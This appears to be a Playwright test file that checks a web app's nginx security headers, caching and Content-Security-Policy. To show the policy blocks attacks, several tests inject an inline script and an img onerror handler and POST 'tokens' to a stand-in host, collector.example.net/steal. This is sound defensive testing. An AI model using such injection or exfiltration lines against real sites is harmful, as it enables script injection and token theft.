// The release build as deployed: nginx with deploy/nginx.conf and the security headers that
// scripts/security-headers.mjs writes from the site's config.json (scripts/test.sh serves it
// so). What the server sends, and that the Content-Security-Policy stops what it is for.
import { test, expect } from './fixtures.js';
import { AppPage, freshUser } from './app.js';
import { securityHeaders } from '../../scripts/security-headers.mjs';

test('nginx sends the security headers written from config.json, on the page and every file', async ({ request }) => {
  const page = await request.get('/');
  const html = await page.text();
  const config = await (await request.get('/config.json')).json();
  const expected = securityHeaders(config, html);
  expect(expected['Content-Security-Policy']).toContain(`connect-src 'self' ${new URL(process.env.COGNITO_URL).origin}`);
  expect(expected['Content-Security-Policy']).toMatch(/script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'/);

  const assets = [...new Set([...html.matchAll(/(?:href|src)=["']?(\/[^"' >]+\.(?:wasm|js|css))(?=[\s"'>])/g)].map(([, path]) => path))];
  expect(assets.map((a) => a.split('.').pop()).sort()).toEqual(['css', 'js', 'wasm']);
  for (const path of ['/', '/config.json', ...assets]) {
    const headers = (await request.get(path)).headers();
    for (const [name, value] of Object.entries(expected)) {
      expect(headers[name.toLowerCase()], `${name} on ${path}`).toBe(value);
    }
  }
});

test('index.html and config.json are never cached; hashed files are cached for a year', async ({ request }) => {
  for (const path of ['/', '/index.html', '/config.json']) {
    expect((await request.get(path)).headers()['cache-control'], path).toBe('no-cache');
  }
  const html = await (await request.get('/')).text();
  const wasm = html.match(/\/[^"' >]+_bg\.wasm/)[0];
  const answer = await request.get(wasm, { headers: { 'accept-encoding': 'br' } });
  expect(answer.headers()['content-type']).toBe('application/wasm');
  expect(answer.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
  expect(answer.headers()['content-encoding']).toBe('br');
});

test('a deep link or a reload of one loads the app, and it signs in', async ({ page }) => {
  const app = new AppPage(page);
  const user = await freshUser('deep');
  await page.goto('/account/settings?from=mail');
  await expect(app.byTestId('pool')).toBeVisible();
  await page.reload();
  await app.signIn(user);
  await app.expectSignedIn(user.username);
});

test.describe('the Content-Security-Policy', () => {
  test.use({ expectCspViolations: true });

  test('blocks an inline script and an <img onerror> handler in the page (written into index.html by route interception)', async ({ page, cspViolations }) => {
    await page.route((url) => url.pathname === '/', async (route) => {
      const response = await route.fetch();
      const injected = '<script>window.injected = "script ran"</script>'
        + '<img src="/no-such-image.png" onerror="window.injected = \'handler ran\'">';
      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${injected}</body>`) });
    });
    const app = new AppPage(page);
    await app.open();
    await expect.poll(() => cspViolations.map((v) => v.directive).sort()).toEqual(['script-src-attr', 'script-src-elem']);
    expect(await page.evaluate(() => window.injected)).toBeUndefined();
    await expect(app.byTestId('sign-in-form')).toBeVisible(); // the app itself runs on
  });

  test('refuses a script\'s text or an event handler set from script (Trusted Types, no policy)', async ({ page, cspViolations }) => {
    const app = new AppPage(page);
    await app.open();
    const outcomes = await page.evaluate(() => {
      const attempt = (set) => {
        try {
          set();
          return 'accepted';
        } catch (e) {
          return `refused: ${e.name}`;
        }
      };
      const script = document.createElement('script');
      const img = document.createElement('img');
      return [
        attempt(() => { script.textContent = 'window.injected = "script ran"'; }),
        attempt(() => img.setAttribute('onerror', 'window.injected = "handler ran"')),
      ];
    });
    expect(outcomes).toEqual(['refused: TypeError', 'refused: TypeError']);
    expect(cspViolations.map((v) => v.directive)).toEqual(['require-trusted-types-for', 'require-trusted-types-for']);
    expect(await page.evaluate(() => window.injected)).toBeUndefined();
  });

  test('turns no HTML string into markup (Trusted Types, no policy), while the app draws its screens', async ({ page, cspViolations }) => {
    const app = new AppPage(page);
    await app.open();
    const outcome = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x data-testid="injected">');
        return 'inserted';
      } catch (e) {
        return `refused: ${e.name}`;
      }
    });
    expect(outcome).toBe('refused: TypeError');
    await expect(page.locator('[data-testid=injected]')).toHaveCount(0);
    expect(cspViolations).toEqual([expect.objectContaining({ directive: 'require-trusted-types-for' })]);
    // The app's own screens are made without such strings: the next one draws, no new violation.
    await app.byTestId('go-sign-up').click();
    await expect(app.byTestId('sign-up-form')).toBeVisible();
    expect(cspViolations).toHaveLength(1);
  });

  test('blocks a request to any origin but the configured Cognito endpoint', async ({ page, cspViolations }) => {
    const app = new AppPage(page);
    await app.open();
    const outcome = await page.evaluate(() =>
      fetch('https://collector.example.net/steal', { method: 'POST', body: 'tokens' }).then(
        () => 'sent',
        (e) => `refused: ${e.name}`,
      ),
    );
    expect(outcome).toBe('refused: TypeError');
    expect(cspViolations).toEqual([
      expect.objectContaining({ directive: 'connect-src', blocked: 'https://collector.example.net/steal' }),
    ]);
    // The configured endpoint itself is allowed: a sign-in still works.
    const user = await freshUser('csp');
    await app.signIn(user);
    await app.expectSignedIn(user.username);
  });
});
